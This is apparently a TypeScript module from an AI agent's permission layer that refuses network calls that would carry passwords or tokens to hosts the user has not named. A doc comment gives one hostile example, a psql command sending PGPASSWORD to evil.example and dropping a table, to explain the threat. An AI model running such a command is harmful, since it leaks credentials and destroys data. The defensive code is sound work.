import type { Judgement } from "../model/judgement.js";
import type { Label } from "../model/rule.js";
import type { Manifest } from "../model/scope.js";
import type { World } from "../model/world.js";
import { isLoopback } from "../readers/http/url.js";
import { splitPlace } from "./host-place.js";

/** Somebody whom a look would connect to, and what it would show there. */
export interface Recipient {
  /** A name or an address, with its port where that is not the service's own: as effects have it. Empty or a path: a socket here. */
  readonly place: string;
  /** The passwords and tokens that go along. */
  readonly secrets: readonly string[];
}

/**
 * To whom a look may go. It goes before anybody has answered, so that an agent that merely asks for
 * `PGPASSWORD=… psql -h evil.example -c 'drop table x'`, and is refused, would have sent the password all the same. So what is asked
 * is this machine, what the person names (labels, a trusted manifest, the variables and files from before the session that have the
 * secret beside the host), and who was shown the same secret by a call that was let run. Whatever the agent says itself counts for nothing.
 */
export interface Recipients {
  /** Undefined: it may be asked. Else why not, and how to change that: a sentence, lower case, no full stop. */
  refusal(to: Recipient): Promise<string | undefined>;
  /** Whether a variable had this very value before the agent started. */
  stood(value: string): boolean;
  /** This was let run: it showed its hosts what it showed. */
  note(judgement: Judgement): void;
}

export interface RecipientOptions {
  readonly world: World;
  /** Of the person's own config. */
  readonly labels: readonly Label[];
  readonly manifests: readonly Manifest[];
  /** Variables as they were before the agent started. */
  readonly env: Readonly<Record<string, string | undefined>>;
}

export function openRecipients({ world, labels, manifests, env }: RecipientOptions): Recipients {
  const named = [
    ...labels.flatMap(({ hosts }) => hosts),
    ...manifests.filter(({ isTrusted }) => isTrusted).flatMap(hostsOf),
  ].map((name) => name.toLowerCase());
  const shown = new Set<string>();
  return {
    async refusal({ place, secrets }) {
      const at = place.toLowerCase();
      if (isHere(at) || named.some((name) => isNamed(name, at))) return undefined;
      const prints = secrets.length === 0 ? [""] : secrets.map((secret) => world.fingerprint(secret.trim()));
      if (prints.every((print) => shown.has(`${at}\0${print}`))) return undefined;
      const { isBeside } = await import("./beside.js");
      if (isBeside({ place: at, secrets }, env, world)) return undefined;
      const what = secrets.length === 0 ? "be told of this call" : "get a password or token";
      return `${place} was not asked: it would ${what} before you have answered, and nothing from before this session says that it is yours (a label would: environments, hosts in your config)`;
    },
    stood: (value) => Object.values(env).includes(value),
    note({ effects }) {
      for (const effect of effects) {
        if (!("host" in effect) || effect.host === undefined || effect.host === "") continue;
        if (shown.size > mostShown) shown.clear();
        const host = effect.host.toLowerCase();
        for (const print of ["", ...effect.credentials.map(({ fingerprint }) => fingerprint)])
          shown.add(`${host}\0${print}`);
      }
    },
  };
}

const mostShown = 2000;

function isHere(place: string): boolean {
  return place === "" || /^[/@]/.test(place) || isLoopback(splitPlace(place).host);
}

/** A database's label has its host before the slash. */
function hostsOf({ environments }: Manifest): readonly string[] {
  return environments.flatMap(({ labels }) =>
    labels.flatMap(({ kind, value }) =>
      kind === "host" || kind === "database" ? [value.replace(/\/.*$/s, "")] : [],
    ),
  );
}

/** `*` stands for what is below a domain of somebody's own: `*.example.com`, not `*`, `db.*` or `*.com`. */
function isNamed(name: string, place: string): boolean {
  const { host, port } = splitPlace(place);
  const label = splitPlace(name);
  if (label.port !== "" && label.port !== port) return false;
  if (!label.host.includes("*")) return label.host !== "" && label.host === host;
  const [, below = ""] = /^\*(\.[^*.]+\.[^*]*[^*.])$/.exec(label.host) ?? [];
  return below !== "" && host.endsWith(below);
}
